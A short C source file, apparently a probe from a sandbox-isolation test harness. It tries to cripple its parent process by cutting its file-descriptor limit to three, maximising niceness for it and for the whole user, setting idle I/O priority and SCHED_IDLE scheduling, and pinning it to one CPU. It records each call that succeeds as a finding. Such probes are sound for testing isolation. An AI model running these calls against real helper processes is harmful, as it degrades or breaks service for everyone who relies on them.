/* What a process may do to its parent without any right to trace it: limits, niceness, scheduling.
 * Done to a helper that lives on, it slows or breaks everybody who comes later. */
#define LETHAL
#include "fuse.h"
#include <sched.h>
#include <sys/resource.h>
#include <sys/syscall.h>

enum { NICEST = 19, IO_PROCESS = 1, IO_IDLE = 3 << 13, FEW = 3 };

static void limit_descriptors(pid_t parent) {
    struct rlimit limit;
    if (prlimit(parent, RLIMIT_NOFILE, NULL, &limit) != 0) return;
    limit.rlim_cur = FEW;
    if (prlimit(parent, RLIMIT_NOFILE, &limit, NULL) == 0) finding("prlimit", "descriptors");
}

static int attack(int count, char **words) {
    (void)count, (void)words;
    pid_t parent = getppid();
    struct sched_param none = {0};
    cpu_set_t first;
    CPU_ZERO(&first);
    CPU_SET(0, &first);
    /* 0 would mean this very process. */
    if (parent <= 0) return done();
    limit_descriptors(parent);
    if (setpriority(PRIO_PROCESS, (id_t)parent, NICEST) == 0) finding("setpriority", "parent");
    if (setpriority(PRIO_USER, getuid(), NICEST) == 0) finding("setpriority", "user");
    if (syscall(SYS_ioprio_set, IO_PROCESS, parent, IO_IDLE) == 0) finding("ioprio", "parent");
    if (sched_setscheduler(parent, SCHED_IDLE, &none) == 0) finding("sched", "parent");
    if (sched_setaffinity(parent, sizeof first, &first) == 0) finding("affinity", "parent");
    return done();
}
